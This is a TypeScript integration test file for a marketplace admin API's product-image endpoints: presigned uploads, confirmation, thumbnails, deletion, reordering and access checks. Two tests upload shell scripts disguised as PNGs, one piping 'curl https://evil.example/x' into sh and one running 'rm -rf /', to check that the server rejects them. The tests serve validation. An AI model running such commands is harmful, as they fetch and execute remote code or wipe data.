import { randomBytes, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createActivities } from '@market/activities';
import { thumbnailKey } from '@market/activities/images';
import type { ObjectStorage } from '@market/adapters';
import type { Product } from '@market/db';
import sharp from 'sharp';
import request from 'supertest';
import { createApp } from '../../../app';
import { catalogGeneration } from '../../../services/catalog-cache';
import { openStorage, temporalDeps } from '../../../platform';
import { createTestDeps, stackEnv, testConfig, type TestDeps } from '../../../testing/deps';
import { createTestUser, type TestUser } from '../../../testing/users';
import { createWorker, type MarketWorker } from '../../../worker';
import { productImageRoutes, workflowIdOf } from './handler';
import { MAX_IMAGE_BYTES } from './schema';

let deps: TestDeps;
let app: ReturnType<typeof createApp>;
let admin: TestUser;
let customer: TestUser;
let worker: MarketWorker;

beforeAll(async () => {
  deps = await createTestDeps();
  // A task queue of its own: only this file's worker (with this file's bucket) makes these thumbnails.
  deps.temporal = temporalDeps(deps.temporal.client, `test-product-images-${randomUUID()}`);
  worker = await createWorker({
    address: stackEnv('MARKET_TEST_TEMPORAL_ADDRESS'),
    namespace: deps.config.temporal.namespace,
    taskQueue: deps.temporal.taskQueue,
    activities: createActivities({ db: deps.db, storage: deps.storage }),
    log: deps.log, // silent
  });
  void worker.run();
  // Only these routes: the test does not depend on the rest of the route table (other areas are under way).
  app = createApp(deps, { routes: productImageRoutes });
  admin = await createTestUser(deps, { role: 'admin' });
  customer = await createTestUser(deps, { role: 'customer' });
}, 60_000);
afterAll(async () => {
  await worker?.shutdown();
  await deps?.close();
});

const createProduct = (): Promise<Product> =>
  deps.db.models.Product.create({
    slug: `image-test-${randomBytes(6).toString('hex')}`,
    title: 'Image test product',
    priceAmount: 1999,
    currency: 'EUR',
  });

const png = (width = 1200, height = 900) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 40 } } })
    .png()
    .toBuffer();

const requestSlot = (productId: number, body: Record<string, unknown>, auth = admin.auth) =>
  request(app).post(`/api/admin/products/${productId}/images/uploads`).set(auth).send(body);

const confirm = (productId: number, body: Record<string, unknown>, auth = admin.auth) =>
  request(app).post(`/api/admin/products/${productId}/images`).set(auth).send(body);

interface Slot {
  uploadId: string;
  url: string;
  method: 'PUT';
  headers: Record<string, string>;
}

/** The client's part: PUT the bytes to the presigned URL, as a browser would (no Authorization header). */
const upload = (slot: Slot, body: Buffer, headers: Record<string, string> = {}) =>
  fetch(slot.url, { method: slot.method, headers: { ...slot.headers, ...headers }, body });

const originalKeyOf = (productId: number, uploadId: string) => `products/${productId}/${uploadId}/original`;

/** Every object under the product's folder is gone: deletePrefix() finds nothing to delete. */
const objectsUnder = (productId: number) => deps.storage.deletePrefix(`products/${productId}/`);

async function uploadImage(product: Product, body: Buffer, contentType = 'image/png') {
  const slot = await requestSlot(product.id, { contentType, contentLength: body.length });
  expect(slot.status).toBe(201);
  const put = await upload(slot.body, body);
  expect(put.status).toBe(200);
  return slot.body as Slot;
}

describe('uploading a product image (presigned PUT, then confirm)', () => {
  test('happy path: stored, recorded with its size, thumbnails made, URLs download', async () => {
    const product = await createProduct();
    const file = await png(1200, 900);

    const slot = await requestSlot(product.id, { contentType: 'image/png', contentLength: file.length });
    expect(slot.status).toBe(201);
    expect(slot.body).toMatchObject({
      uploadId: expect.any(String),
      method: 'PUT',
      headers: { 'Content-Type': 'image/png' },
      maxBytes: MAX_IMAGE_BYTES,
    });
    expect(new Date(slot.body.expiresAt).getTime()).toBeGreaterThan(Date.now());
    expect((await upload(slot.body, file)).status).toBe(200);

    const confirmed = await confirm(product.id, { uploadId: slot.body.uploadId, alt: 'A red square' });
    expect(confirmed.status).toBe(201);
    expect(confirmed.body).toMatchObject({ alt: 'A red square', width: 1200, height: 900 });

    const row = await deps.db.models.ProductImage.findByPk(confirmed.body.id);
    const key = originalKeyOf(product.id, slot.body.uploadId);
    expect(row).toMatchObject({
      productId: product.id,
      storageKey: key,
      contentType: 'image/png',
      position: 0,
    });

    const result = await deps.temporal.client.workflow.getHandle(workflowIdOf(row!)).result();
    expect(result.thumbnails).toEqual({
      small: thumbnailKey(key, 'small'),
      medium: thumbnailKey(key, 'medium'),
      large: thumbnailKey(key, 'large'),
    });

    const original = await fetch(confirmed.body.url);
    expect(original.status).toBe(200);
    expect(Buffer.from(await original.arrayBuffer()).equals(file)).toBe(true);
    for (const [name, width] of [
      ['small', 200],
      ['medium', 400],
      ['large', 800],
    ] as const) {
      const res = await fetch(confirmed.body.thumbnails[name]);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/webp');
      const meta = await sharp(Buffer.from(await res.arrayBuffer())).metadata();
      expect(meta).toMatchObject({ format: 'webp', width, height: (width * 3) / 4 });
    }

    // The admin list presents the same image; a second one goes after it.
    const second = await uploadImage(product, await png(100, 100));
    const secondConfirmed = await confirm(product.id, { uploadId: second.uploadId });
    expect(secondConfirmed.status).toBe(201);
    const list = await request(app).get(`/api/admin/products/${product.id}/images`).set(admin.auth);
    expect(list.status).toBe(200);
    expect(list.body.map((image: { id: number }) => image.id)).toEqual([
      confirmed.body.id,
      secondConfirmed.body.id,
    ]);
  }, 60_000);

  test('confirming the same upload twice is a 409', async () => {
    const product = await createProduct();
    const slot = await uploadImage(product, await png(50, 50));
    expect((await confirm(product.id, { uploadId: slot.uploadId })).status).toBe(201);
    const again = await confirm(product.id, { uploadId: slot.uploadId });
    expect(again.status).toBe(409);
    expect(again.body.code).toBe('image_exists');
    expect(await deps.db.models.ProductImage.count({ where: { productId: product.id } })).toBe(1);
  });

  test('a shell script named .png and sent as image/png is a 422; the object is deleted, nothing recorded', async () => {
    const product = await createProduct();
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    const slot = await uploadImage(product, script, 'image/png');
    expect(await deps.storage.head(originalKeyOf(product.id, slot.uploadId))).not.toBeNull();

    const res = await confirm(product.id, { uploadId: slot.uploadId });
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.body.code).toBe('image_type_mismatch');
    expect(await deps.storage.head(originalKeyOf(product.id, slot.uploadId))).toBeNull();
    expect(await deps.db.models.ProductImage.count({ where: { productId: product.id } })).toBe(0);
  });

  test('a real image of another type than declared (a JPEG sent as image/png) is a 422', async () => {
    const product = await createProduct();
    const jpeg = await sharp(await png(40, 40))
      .jpeg()
      .toBuffer();
    const slot = await uploadImage(product, jpeg, 'image/png');
    const res = await confirm(product.id, { uploadId: slot.uploadId });
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('image_type_mismatch');
    expect(await objectsUnder(product.id)).toBe(0);
  });

  test('a PNG signature followed by garbage is a 422 image_unreadable', async () => {
    const product = await createProduct();
    const fake = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      randomBytes(64),
    ]);
    const slot = await uploadImage(product, fake, 'image/png');
    const res = await confirm(product.id, { uploadId: slot.uploadId });
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('image_unreadable');
    expect(await objectsUnder(product.id)).toBe(0);
  });

  test('too large: a contentLength over the limit is a 422 at the slot request', async () => {
    const product = await createProduct();
    const res = await requestSlot(product.id, {
      contentType: 'image/png',
      contentLength: MAX_IMAGE_BYTES + 1,
    });
    expect(res.status).toBe(422);
    expect(res.body.errors[0].path).toBe('body.contentLength');
  });

  test('a type that is not an accepted image is a 422 at the slot request', async () => {
    const product = await createProduct();
    const res = await requestSlot(product.id, { contentType: 'image/svg+xml', contentLength: 100 });
    expect(res.status).toBe(422);
    expect(res.body.errors[0].path).toBe('body.contentType');
  });

  test('a PUT of more bytes than announced is refused by S3', async () => {
    const product = await createProduct();
    const file = await png(64, 64);
    const slot = await requestSlot(product.id, { contentType: 'image/png', contentLength: file.length });
    const put = await upload(slot.body, Buffer.concat([file, randomBytes(1024)]));
    expect(put.status).toBe(403);
    expect(await objectsUnder(product.id)).toBe(0);
  });

  test('a PUT with another Content-Type than signed is refused by S3', async () => {
    const product = await createProduct();
    const file = await png(64, 64);
    const slot = await requestSlot(product.id, { contentType: 'image/png', contentLength: file.length });
    const put = await upload(slot.body, file, { 'Content-Type': 'text/html' });
    expect(put.status).toBe(403);
    expect(await objectsUnder(product.id)).toBe(0);
  });

  test('an object larger than the limit (put past the API) is refused on confirm and deleted', async () => {
    const product = await createProduct();
    const uploadId = randomUUID();
    const big = Buffer.concat([await png(64, 64), Buffer.alloc(MAX_IMAGE_BYTES)]);
    await deps.storage.put(originalKeyOf(product.id, uploadId), big, { contentType: 'image/png' });
    const res = await confirm(product.id, { uploadId });
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('image_too_large');
    expect(await objectsUnder(product.id)).toBe(0);
  });

  test('confirming an upload that never happened is a 422 upload_not_found', async () => {
    const product = await createProduct();
    const res = await confirm(product.id, { uploadId: randomUUID() });
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('upload_not_found');
  });

  test('an unknown product is a 404', async () => {
    const res = await requestSlot(999_999_999, { contentType: 'image/png', contentLength: 10 });
    expect(res.status).toBe(404);
  });

  test('without auth: 401 on every step, and nothing is stored', async () => {
    const product = await createProduct();
    const slot = await request(app)
      .post(`/api/admin/products/${product.id}/images/uploads`)
      .send({ contentType: 'image/png', contentLength: 100 });
    expect(slot.status).toBe(401);
    const confirmed = await request(app)
      .post(`/api/admin/products/${product.id}/images`)
      .send({ uploadId: randomUUID() });
    expect(confirmed.status).toBe(401);
    expect(await objectsUnder(product.id)).toBe(0);
    expect(await deps.db.models.ProductImage.count({ where: { productId: product.id } })).toBe(0);
  });

  test('a customer gets a 403 on every step, and nothing is stored', async () => {
    const product = await createProduct();
    // Even with an upload an admin made: the customer cannot confirm it.
    const slot = await uploadImage(product, await png(30, 30));
    expect(
      (await requestSlot(product.id, { contentType: 'image/png', contentLength: 100 }, customer.auth)).status,
    ).toBe(403);
    expect((await confirm(product.id, { uploadId: slot.uploadId }, customer.auth)).status).toBe(403);
    expect(await deps.db.models.ProductImage.count({ where: { productId: product.id } })).toBe(0);
    expect(
      (await request(app).get(`/api/admin/products/${product.id}/images`).set(customer.auth)).status,
    ).toBe(403);
  });
});

describe('DELETE /api/admin/products/:id/images/:imageId', () => {
  test('removes the row, the original and every thumbnail', async () => {
    const product = await createProduct();
    const slot = await uploadImage(product, await png(400, 300));
    const confirmed = await confirm(product.id, { uploadId: slot.uploadId });
    expect(confirmed.status).toBe(201);
    await deps.temporal.client.workflow
      .getHandle(workflowIdOf({ storageKey: originalKeyOf(product.id, slot.uploadId) }))
      .result();
    const key = originalKeyOf(product.id, slot.uploadId);
    expect(await deps.storage.head(thumbnailKey(key, 'large'))).not.toBeNull();

    const customerTry = await request(app)
      .delete(`/api/admin/products/${product.id}/images/${confirmed.body.id}`)
      .set(customer.auth);
    expect(customerTry.status).toBe(403);

    const res = await request(app)
      .delete(`/api/admin/products/${product.id}/images/${confirmed.body.id}`)
      .set(admin.auth);
    expect(res.status).toBe(204);
    expect(await deps.db.models.ProductImage.findByPk(confirmed.body.id)).toBeNull();
    for (const k of [
      key,
      thumbnailKey(key, 'small'),
      thumbnailKey(key, 'medium'),
      thumbnailKey(key, 'large'),
    ]) {
      expect(await deps.storage.head(k)).toBeNull();
    }
    expect(await objectsUnder(product.id)).toBe(0);

    const again = await request(app)
      .delete(`/api/admin/products/${product.id}/images/${confirmed.body.id}`)
      .set(admin.auth);
    expect(again.status).toBe(404);
  }, 60_000);

  test('an image of another product is a 404 and stays', async () => {
    const product = await createProduct();
    const other = await createProduct();
    const slot = await uploadImage(product, await png(20, 20));
    const confirmed = await confirm(product.id, { uploadId: slot.uploadId });
    const res = await request(app)
      .delete(`/api/admin/products/${other.id}/images/${confirmed.body.id}`)
      .set(admin.auth);
    expect(res.status).toBe(404);
    expect(await deps.db.models.ProductImage.findByPk(confirmed.body.id)).not.toBeNull();
  });
});

describe('PUT /api/admin/products/:id/images/order', () => {
  const reorder = (productId: number, body: unknown, auth: Record<string, string> = admin.auth) =>
    request(app)
      .put(`/api/admin/products/${productId}/images/order`)
      .set(auth)
      .send(body as object);
  const positions = async (productId: number) =>
    (
      await deps.db.models.ProductImage.findAll({
        where: { productId },
        order: [
          ['position', 'ASC'],
          ['id', 'ASC'],
        ],
      })
    ).map((image) => [image.id, image.position]);

  /** A product with `n` confirmed images (real uploads to the bucket), in upload order. */
  async function productWithImages(n: number) {
    const product = await createProduct();
    const ids: number[] = [];
    for (let i = 0; i < n; i += 1) {
      const slot = await uploadImage(product, await png(10 + i, 10));
      const confirmed = await confirm(product.id, { uploadId: slot.uploadId, alt: `image ${i}` });
      expect(confirmed.status).toBe(201);
      ids.push(confirmed.body.id as number);
    }
    return { product, ids };
  }

  test('rewrites positions 0..n-1, answers the images in their new order, lists them so, bumps the catalog', async () => {
    const { product, ids } = await productWithImages(3);
    const [a, b, c] = ids as [number, number, number];
    expect(await positions(product.id)).toEqual([
      [a, 0],
      [b, 1],
      [c, 2],
    ]);
    const before = await catalogGeneration(deps.cache);

    const res = await reorder(product.id, { imageIds: [c, a, b] });
    expect(res.status).toBe(200);
    expect(res.body.map((image: { id: number }) => image.id)).toEqual([c, a, b]);
    expect(res.body[0]).toMatchObject({ alt: 'image 2', width: 12, height: 10 });
    // Presented as the list presents them: a presigned URL of the image's own original.
    const row = await deps.db.models.ProductImage.findByPk(c);
    expect(res.body[0].url).toContain(row!.storageKey);
    expect(await positions(product.id)).toEqual([
      [c, 0],
      [a, 1],
      [b, 2],
    ]);
    expect(await catalogGeneration(deps.cache)).not.toBe(before);

    const listed = await request(app).get(`/api/admin/products/${product.id}/images`).set(admin.auth);
    expect(listed.body.map((image: { id: number }) => image.id)).toEqual([c, a, b]);

    // The same order again changes nothing and is still a 200; ids as strings (react-admin) are accepted.
    const again = await reorder(product.id, { imageIds: [String(c), String(a), String(b)] });
    expect(again.status).toBe(200);
    expect(await positions(product.id)).toEqual([
      [c, 0],
      [a, 1],
      [b, 2],
    ]);
  }, 60_000);

  test('a list that is not exactly the product’s images is a 422 naming the ids; nothing moves', async () => {
    const { product, ids } = await productWithImages(2);
    const [a, b] = ids as [number, number];
    const other = await productWithImages(1);
    const foreign = other.ids[0]!;
    const before = await positions(product.id);
    const problemsOf = async (imageIds: unknown) => {
      const res = await reorder(product.id, { imageIds });
      expect(res.status).toBe(422);
      expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      return (res.body.errors as { path: string; code: string; message: string }[]).map((e) => [
        e.path,
        e.code,
        e.message,
      ]);
    };

    expect(await problemsOf([a, b, a])).toEqual([
      ['body.imageIds', 'duplicate_image', `Listed more than once: ${a}`],
    ]);
    expect(await problemsOf([a, b, foreign])).toEqual([
      ['body.imageIds', 'unknown_image', `Not images of this product: ${foreign}`],
    ]);
    expect(await problemsOf([b])).toEqual([
      ['body.imageIds', 'missing_image', `Images of this product left out: ${a}`],
    ]);
    expect(await problemsOf([])).toEqual([
      ['body.imageIds', 'missing_image', `Images of this product left out: ${a}, ${b}`],
    ]);
    // Not a list of ids at all: the schema's own 422.
    expect((await reorder(product.id, { imageIds: 'a,b' })).status).toBe(422);
    expect((await reorder(product.id, { imageIds: [a, b], extra: 1 })).status).toBe(422);
    expect(await positions(product.id)).toEqual(before);
    expect(await positions(other.product.id)).toEqual([[foreign, 0]]);
  }, 60_000);

  test('an unknown product is a 404; a customer a 403; no session a 401', async () => {
    const { product, ids } = await productWithImages(1);
    expect((await reorder(999999999, { imageIds: [] })).status).toBe(404);
    expect((await reorder(product.id, { imageIds: ids }, customer.auth)).status).toBe(403);
    expect((await reorder(product.id, { imageIds: ids }, {})).status).toBe(401);
  }, 60_000);
});

describe('on the embedded default (local storage behind /api/storage)', () => {
  const dataDir = mkdtempSync(path.join(tmpdir(), 'market-images-local-'));
  const PUBLIC_URL = 'http://127.0.0.1:3998';
  let localApp: ReturnType<typeof createApp>;
  let localStorage: ObjectStorage;

  beforeAll(() => {
    const config = testConfig({
      DATA_DIR: dataDir,
      STORAGE_SIGNING_SECRET: randomBytes(32).toString('hex'),
      PUBLIC_URL,
    });
    localStorage = openStorage(config);
    localApp = createApp({ ...deps, config, storage: localStorage }, { routes: productImageRoutes });
  });
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  const inApp = (url: string) => {
    const { pathname, search } = new URL(url);
    expect(`${new URL(url).origin}`).toBe(PUBLIC_URL);
    return pathname + search;
  };

  async function localUpload(productId: number, file: Buffer, contentType: string) {
    const slot = await request(localApp)
      .post(`/api/admin/products/${productId}/images/uploads`)
      .set(admin.auth)
      .send({ contentType, contentLength: file.length });
    expect(slot.status).toBe(201);
    const put = await request(localApp).put(inApp(slot.body.url)).set(slot.body.headers).send(file);
    expect(put.status).toBe(200);
    return request(localApp)
      .post(`/api/admin/products/${productId}/images`)
      .set(admin.auth)
      .send({ uploadId: slot.body.uploadId });
  }

  test('slot, PUT through the API, confirm, download', async () => {
    const product = await createProduct();
    const file = await png(64, 48);
    const confirmed = await localUpload(product.id, file, 'image/png');
    expect(confirmed.status).toBe(201);
    expect(confirmed.body).toMatchObject({ width: 64, height: 48 });
    const original = await request(localApp).get(inApp(confirmed.body.url)).buffer(true);
    expect(original.status).toBe(200);
    expect(Buffer.compare(original.body as Buffer, file)).toBe(0);
  });

  test('a script sent as image/png is a 422 and deleted from the disk too', async () => {
    const product = await createProduct();
    const res = await localUpload(product.id, Buffer.from('#!/bin/sh\nrm -rf /\n'), 'image/png');
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('image_type_mismatch');
    expect(await localStorage.deletePrefix(`products/${product.id}/`)).toBe(0);
    expect(await deps.db.models.ProductImage.count({ where: { productId: product.id } })).toBe(0);
  });
});
